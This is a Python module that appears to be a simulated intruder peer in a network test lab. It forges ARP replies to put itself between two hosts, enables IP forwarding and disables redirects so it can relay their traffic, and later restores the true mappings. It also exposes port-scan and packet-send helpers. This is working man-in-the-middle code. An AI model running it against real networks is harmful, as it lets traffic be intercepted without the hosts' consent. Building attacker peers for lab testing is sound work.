"""A host that claims other hosts' addresses by ARP; with forwarding on in its namespace, it passes on what it gets."""

from __future__ import annotations

import asyncio
import socket
from pathlib import Path
from typing import TYPE_CHECKING

from tests.lab.net import mac_of
from tests.lab.peers.control import Control, Spec, run_peer
from tests.lab.peers.intruder import connect_scan, tcp_send, udp_send

if TYPE_CHECKING:
    import random

ETH_P_ARP = 0x0806


def hardware(address: str) -> bytes:
    """The hardware address the lab gave to an address."""
    return bytes.fromhex(mac_of(address).replace(":", ""))


def claim(own: bytes, address: str, to: str, to_mac: bytes) -> bytes:
    """An ARP answer (RFC 826) that says `address` is at `own`, for the host `to`."""
    head = to_mac + own + b"\x08\x06\0\1\x08\0\x06\x04\0\2"
    return head + own + socket.inet_aton(address) + to_mac + socket.inet_aton(to) + bytes(18)


async def poison(order: Spec) -> object:
    """Sit between `a` and `b` for `lasts` seconds: tell each that the other is here, then tell them the truth again."""
    a, b = order["a"], order["b"]
    own = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text(encoding="ascii").strip().replace(":", ""))
    Path("/proc/sys/net/ipv4/ip_forward").write_text("1", encoding="ascii")
    Path("/proc/sys/net/ipv4/conf/all/send_redirects").write_text("0", encoding="ascii")
    Path("/proc/sys/net/ipv4/conf/eth0/send_redirects").write_text("0", encoding="ascii")
    loop = asyncio.get_running_loop()
    until = loop.time() + order["lasts"]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as sock:
        sock.bind(("eth0", 0))
        while loop.time() < until:
            sock.send(claim(own, b, a, hardware(a)))
            sock.send(claim(own, a, b, hardware(b)))
            await asyncio.sleep(1.0)
        for _ in range(2):
            sock.send(claim(hardware(b), b, a, hardware(a)))
            sock.send(claim(hardware(a), a, b, hardware(b)))
    return "done"


async def setup(_: Spec, control: Control, __: random.Random) -> None:
    """Nothing happens until the script asks."""
    control.on("poison", poison)
    control.on("tcp_send", tcp_send)
    control.on("udp_send", udp_send)
    control.on("connect_scan", connect_scan)


if __name__ == "__main__":
    run_peer(setup)
